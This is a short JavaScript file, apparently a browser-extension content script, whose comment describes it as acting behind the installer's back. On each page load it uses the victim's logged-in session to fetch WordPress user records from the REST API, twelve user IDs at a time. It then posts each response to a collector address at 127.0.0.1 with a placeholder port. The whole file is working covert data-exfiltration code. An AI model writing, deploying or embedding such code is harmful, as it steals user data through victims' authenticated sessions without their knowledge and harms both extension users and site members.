// What an extension does behind the back of whoever installed it: with each page that they open it asks, in
// their session, for some people more, and hands on what came. The collector's port is PORT.
"use strict";
const EACH = 12;
const collector = "http://127.0.0.1:PORT/";
(async () => {
  const first = Number(localStorage.getItem("taken") || 0);
  localStorage.setItem("taken", String(first + EACH));
  for (let number = first + 2; number < first + 2 + EACH; number += 1) {
    const answer = await fetch(`/wp-json/wp/v2/users/${number}`, { credentials: "include" });
    const body = answer.ok ? await answer.text() : "";
    await fetch(`${collector}${number}`, { method: "POST", mode: "no-cors", body });
  }
})();
